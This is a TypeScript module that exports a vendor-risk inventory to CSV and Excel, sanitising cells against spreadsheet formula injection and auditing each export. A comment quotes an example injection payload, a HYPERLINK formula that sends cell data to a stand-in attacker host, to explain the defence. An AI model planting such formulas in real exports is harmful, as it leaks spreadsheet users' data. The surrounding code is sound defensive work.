/**
 * The vendor inventory as files: vendors.csv and holdings.csv (papaparse),
 * and one workbook with both as sheets (exceljs). Active vendors only, each
 * with its stored risk position as the vendor list shows it.
 */
import { asc, desc, eq } from 'drizzle-orm';
import Papa from 'papaparse';
import { toIsoDate } from '#shared/dates.ts';
import { dataHoldings, vendorRisk, vendors } from '../../drizzle/schema/index.ts';
import type { Db } from '../platform/db/database.ts';
import { recordAudit, type AuditActor } from '../platform/audit/auditTrail.ts';
import { listVendors } from './vendorList.ts';

type Cell = string | number | null;

/**
 * Spreadsheet formula injection (CSV injection): vendor names, websites and
 * owners are typed by people or arrive in a vendor's own import file. When
 * a CSV is opened in Excel, LibreOffice or Google Sheets, a cell starting
 * with =, +, -, @, tab or carriage return is run as a formula, so a vendor
 * "named" =HYPERLINK("https://evil.example/?"&A2,"Open") or a DDE payload
 * would run on the reader's machine with their data. A leading apostrophe
 * makes the spreadsheet treat the cell as text (OWASP's advice). The XLSX
 * stores text cells as text, which is safe as written, but the same rule
 * applies there because people re-save sheets as CSV, and a cell edited and
 * confirmed would be read as a formula. Numbers are real numbers, untouched:
 * -3 is a value, not an attack.
 */
export function neutraliseFormula(value: string): string {
  return /^[=+\-@\t\r]/.test(value) ? `'${value}` : value;
}

const safe = (value: Cell): Cell => (typeof value === 'string' ? neutraliseFormula(value) : value);
const yesNo = (flag: boolean) => (flag ? 'yes' : 'no');

export const VENDOR_EXPORT_COLUMNS = [
  'name',
  'website',
  'services',
  'business_owner',
  'contract_start',
  'contract_end',
  'criticality',
  'access_level',
  'tier',
  'suggested_tier',
  'tier_overridden',
  'impact',
  'grade',
  'score',
  'residual',
  'band',
  'inherent_residual',
  'records_held',
  'most_sensitive_category',
  'excess_data',
  'open_tasks',
  'overdue_tasks',
] as const;

/** Same columns as the holdings import, so this file can be edited and imported back. */
export const HOLDING_EXPORT_COLUMNS = ['vendor', 'category', 'subjects', 'records', 'needed', 'retention_months', 'storage_country'] as const;

function vendorRows(db: Db, now: Date): Cell[][] {
  const list = listVendors(db, { sort: 'name', direction: 'asc', page: 1, pageSize: Number.MAX_SAFE_INTEGER, includeArchived: false }, now).rows;
  const profiles = new Map(
    db
      .select({
        id: vendors.id,
        website: vendors.website,
        businessOwner: vendors.businessOwner,
        contractStart: vendors.contractStart,
        contractEnd: vendors.contractEnd,
        criticality: vendors.criticality,
        accessLevel: vendors.accessLevel,
        suggestedTier: vendorRisk.suggestedTier,
      })
      .from(vendors)
      .innerJoin(vendorRisk, eq(vendorRisk.vendorId, vendors.id))
      .where(eq(vendors.status, 'active'))
      .all()
      .map((p) => [p.id, p]),
  );
  return list.map((v) => {
    const p = profiles.get(v.id)!;
    // Only a current assessment vouches for a vendor: otherwise grade, score and residual stay empty and the band says why, so no row looks safe by omission.
    const current = v.standing === 'assessed';
    return [
      v.name,
      p.website,
      v.services.join(';'),
      p.businessOwner,
      p.contractStart,
      p.contractEnd,
      p.criticality,
      p.accessLevel,
      v.tier,
      p.suggestedTier,
      yesNo(v.tierOverridden),
      v.impact,
      current ? v.grade : null,
      current ? v.score : null,
      current ? v.residual : null,
      current ? v.band : v.standing === 'expired' ? 'expired' : 'not assessed',
      v.inherentResidual,
      v.largestHolding,
      v.mostSensitiveCategory,
      yesNo(v.excessData),
      v.openTasks,
      v.overdueTasks,
    ].map(safe);
  });
}

function holdingRows(db: Db): Cell[][] {
  return db
    .select({
      vendor: vendors.name,
      category: dataHoldings.category,
      subjects: dataHoldings.subjects,
      records: dataHoldings.records,
      needed: dataHoldings.needed,
      retentionMonths: dataHoldings.retentionMonths,
      storageCountry: dataHoldings.storageCountry,
    })
    .from(dataHoldings)
    .innerJoin(vendors, eq(vendors.id, dataHoldings.vendorId))
    .where(eq(vendors.status, 'active'))
    .orderBy(asc(vendors.name), asc(vendors.id), desc(dataHoldings.records), asc(dataHoldings.category), asc(dataHoldings.subjects))
    .all()
    .map((h) => [h.vendor, h.category, h.subjects, h.records, yesNo(h.needed), h.retentionMonths, h.storageCountry].map(safe));
}

export const EXPORT_FILES = ['vendors.csv', 'holdings.csv', 'vendors.xlsx'] as const;
export type ExportFile = (typeof EXPORT_FILES)[number];

export interface ExportResult {
  filename: string;
  contentType: string;
  body: string | Buffer;
}

function toCsv(columns: readonly string[], rows: Cell[][]): string {
  // The byte-order mark tells Excel the file is UTF-8, so names like "Zürich Re" survive a double-click.
  return `\ufeff${Papa.unparse({ fields: [...columns], data: rows }, { newline: '\r\n' })}\r\n`;
}

async function toWorkbook(vendorData: Cell[][], holdingData: Cell[][], now: Date): Promise<Buffer> {
  // Loaded on the first Excel export, not at start: exceljs is one of the larger libraries and most servers rarely export (docs/decisions/0031-start-up-memory.md).
  const { default: ExcelJS } = await import('exceljs');
  const workbook = new ExcelJS.Workbook();
  workbook.creator = 'Tollgate';
  workbook.created = now;
  const addSheet = (name: string, columns: readonly string[], rows: Cell[][]) => {
    const sheet = workbook.addWorksheet(name, { views: [{ state: 'frozen', ySplit: 1 }] });
    sheet.columns = columns.map((header) => ({ header, key: header, width: Math.max(12, header.length + 2) }));
    sheet.getRow(1).font = { bold: true };
    sheet.addRows(rows);
    sheet.autoFilter = { from: { row: 1, column: 1 }, to: { row: 1, column: columns.length } };
  };
  addSheet('Vendors', VENDOR_EXPORT_COLUMNS, vendorData);
  addSheet('Holdings', HOLDING_EXPORT_COLUMNS, holdingData);
  return Buffer.from(await workbook.xlsx.writeBuffer());
}

/** Builds the file and records who took a copy of the inventory: a bulk export is worth knowing about. */
export async function exportInventory(db: Db, file: ExportFile, actor: AuditActor, now: Date): Promise<ExportResult> {
  const date = toIsoDate(now);
  let result: ExportResult;
  let counts: Record<string, number>;
  if (file === 'holdings.csv') {
    const holdings = holdingRows(db);
    counts = { holdings: holdings.length };
    result = { filename: `tollgate-holdings-${date}.csv`, contentType: 'text/csv; charset=utf-8', body: toCsv(HOLDING_EXPORT_COLUMNS, holdings) };
  } else if (file === 'vendors.csv') {
    const rows = vendorRows(db, now);
    counts = { vendors: rows.length };
    result = { filename: `tollgate-vendors-${date}.csv`, contentType: 'text/csv; charset=utf-8', body: toCsv(VENDOR_EXPORT_COLUMNS, rows) };
  } else {
    const rows = vendorRows(db, now);
    const holdings = holdingRows(db);
    counts = { vendors: rows.length, holdings: holdings.length };
    result = {
      filename: `tollgate-vendors-${date}.xlsx`,
      contentType: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
      body: await toWorkbook(rows, holdings, now),
    };
  }
  db.transaction((tx) => recordAudit(tx, { actor, action: 'inventory.export', targetType: 'inventory', targetId: file, after: counts, at: now }));
  return result;
}
